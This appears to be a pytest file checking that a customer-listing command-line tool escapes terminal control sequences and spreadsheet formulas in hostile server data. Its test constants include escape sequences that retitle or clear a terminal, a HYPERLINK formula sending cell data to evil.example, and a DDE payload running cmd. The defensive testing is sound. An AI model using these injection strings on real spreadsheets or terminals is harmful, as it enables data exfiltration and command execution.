"""What the command line writes for a terminal or a spreadsheet when the
server's values are hostile: control characters, formulas, wide characters.
Run as a subprocess against the sandbox, its answer replaced by one page of
such customers."""
import csv
import io
import json
import unicodedata

from .test_cli import env_for, one_line, run

# Names a customer may be given by anyone who can sign up.
TITLE = "Evil\x1b]0;hi\x07Co"       # OSC: retitles the terminal, ends with BEL
CSI_C1 = "Clear\x9b2J Ltd"                   # C1 CSI: clears the screen on some terminals
CURSOR = "Up\x1b[5A Inc"                     # ESC [ 5 A: cursor up five lines
BIDI = "Inv \u202egpj.exe"            # right-to-left override: reads as "exe.jpg"
WIDE = ["株式会社テスト", "😀 Emoji Co", "Ünïcödé Ltd"]
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "@SUM(A1:A9)", "+1+cmd|' /C calc'!A0",
            "-2+3", "\tTabbed", "＝SUM(1)"]
PLAIN = ["-12.50", "Acme", "+44"]


def _page(names):
    customers = [{"id": f"cust_{i}", "name": name, "email": f"c{i}@example.com",
                  "corporation_id": "corp_123", "created_at": 1767225600 + i}
                 for i, name in enumerate(names)]
    return {"customers": customers, "total_customers": len(customers), "cursor": None}


def _serve(sb, names):
    sb.inject("commenda.customers", body=_page(names))


LIST = ["commenda", "customers", "--corporation-id", "corp_123"]
RAW = ("\x1b", "\x07", "\x9b", "\u202e")


def _width(text):
    return sum(0 if unicodedata.category(c) in ("Mn", "Me", "Cf")
               else 2 if unicodedata.east_asian_width(c) in ("W", "F") else 1 for c in text)


def test_table_shows_control_characters_escaped_and_aligns_wide_ones(sb):
    names = [TITLE, CSI_C1, CURSOR, BIDI] + WIDE
    _serve(sb, names)
    r = run(LIST + ["--format", "table"], env_for(sb))
    assert r.returncode == 0, r.stderr
    for ch in RAW:
        assert ch not in r.stdout
    for shown in (r"Evil\x1b]0;hi\x07Co", r"Clear\x9b2J Ltd", r"Up\x1b[5A Inc",
                  r"Inv \u202egpj.exe"):
        assert shown in r.stdout
    lines = r.stdout.splitlines()
    assert len(lines) == 2 + len(names)
    # every row's email column starts at the header's email column, on screen
    column = _width(lines[0][:lines[0].index("email")])
    for i, line in enumerate(lines[2:]):
        assert _width(line[:line.index(f"c{i}@example.com")]) == column, line
    assert "株式会社テスト" in r.stdout and "😀 Emoji Co" in r.stdout


def test_jsonl_is_exact_and_carries_no_raw_c1_control(sb):
    names = [TITLE, CSI_C1, BIDI]
    _serve(sb, names)
    r = run(LIST, env_for(sb))
    assert r.returncode == 0, r.stderr
    assert "\x9b" not in r.stdout and "\x1b" not in r.stdout and "\x07" not in r.stdout
    assert [json.loads(line)["name"] for line in r.stdout.splitlines()] == names


def test_an_error_message_from_the_server_shows_control_characters_escaped(sb):
    sb.inject("commenda.customers", status=400, times=None,
              body={"message": "bad\x1b]0;owned\x07 request\x9b2J", "statusCode": 400})
    r = run(LIST, env_for(sb))
    line = one_line(r, 1, "BadRequestError")
    assert not any(ch in r.stderr for ch in RAW)
    assert r"bad\x1b]0;owned\x07 request\x9b2J" in line


def test_csv_values_are_exact_by_default(sb, tmp_path):
    names = FORMULAS + PLAIN + [TITLE]
    _serve(sb, names)
    r = run(LIST + ["--format", "csv"], env_for(sb))
    assert r.returncode == 0, r.stderr
    rows = list(csv.DictReader(io.StringIO(r.stdout)))
    assert [row["name"] for row in rows] == names


def test_csv_escape_formulas_makes_formula_cells_text(sb, tmp_path):
    names = FORMULAS + PLAIN
    expected = ["'" + n for n in FORMULAS] + PLAIN
    _serve(sb, names)
    r = run(LIST + ["--format", "csv", "--escape-formulas"], env_for(sb))
    assert r.returncode == 0, r.stderr
    rows = list(csv.DictReader(io.StringIO(r.stdout)))
    assert [row["name"] for row in rows] == expected
    assert [row["id"] for row in rows] == [f"cust_{i}" for i in range(len(names))]
    assert rows[0]["email"] == "c0@example.com"            # other cells as they were
    # the same to a file
    _serve(sb, names)
    out = tmp_path / "people.csv"
    r = run(LIST + ["--format", "csv", "--escape-formulas", "-o", str(out), "--no-progress"],
            env_for(sb))
    assert r.returncode == 0, r.stderr
    with open(out, newline="", encoding="utf-8") as f:
        assert [row["name"] for row in csv.DictReader(f)] == expected


def test_escape_formulas_is_refused_for_other_formats_before_any_request(sb, tmp_path):
    for fmt in ("jsonl", "table"):
        r = run(LIST + ["--format", fmt, "--escape-formulas"], env_for(sb))
        one_line(r, 2, "--escape-formulas", "csv")
    r = run(LIST + ["--format", "parquet", "--escape-formulas", "-o", str(tmp_path / "x.parquet")],
            env_for(sb))
    one_line(r, 2, "--escape-formulas", "csv")
    assert not (tmp_path / "x.parquet").exists()
    assert sb.requests == []


# ---- messages speak of the command line, never of Python calls ----------------


def test_messages_name_flags_not_python_keywords(sb):
    r = run(["natural", "customers", "--agent-id", "agt_" + "a" * 32], env_for(sb))
    assert one_line(r, 2) == "custlist: error: --instance-id is required when --agent-id is given"
    r = run(["pyng", "customers", "--site-id", "site_1", "--invited-from", "2026-02-01",
             "--invited-to", "2026-01-01"], env_for(sb))
    assert one_line(r, 2) == "custlist: error: --invited-from must not be after --invited-to"
    assert sb.requests == []


def test_a_damaged_export_state_is_not_answered_with_a_python_call(sb, tmp_path):
    out, state = tmp_path / "c.jsonl", tmp_path / "state.json"
    r = run(LIST + ["-o", str(out), "--resume", str(state), "--max-items", "5", "--no-progress"],
            env_for(sb))
    assert r.returncode == 0, r.stderr
    saved = json.loads(state.read_text())
    saved["complete"] = False
    for key, value in (("skip", -1), ("page", 5), ("custlist", 99)):
        damaged = json.loads(json.dumps(saved))
        damaged["checkpoint"][key] = value
        state.write_text(json.dumps(damaged))
        sb.requests.clear()
        r = run(LIST + ["-o", str(out), "--resume", str(state), "--no-progress"], env_for(sb))
        line = one_line(r, 2)
        for python in ("pager.checkpoint()", "client.resume", "checkpoint=", "start="):
            assert python not in line, line
        assert sb.requests == []
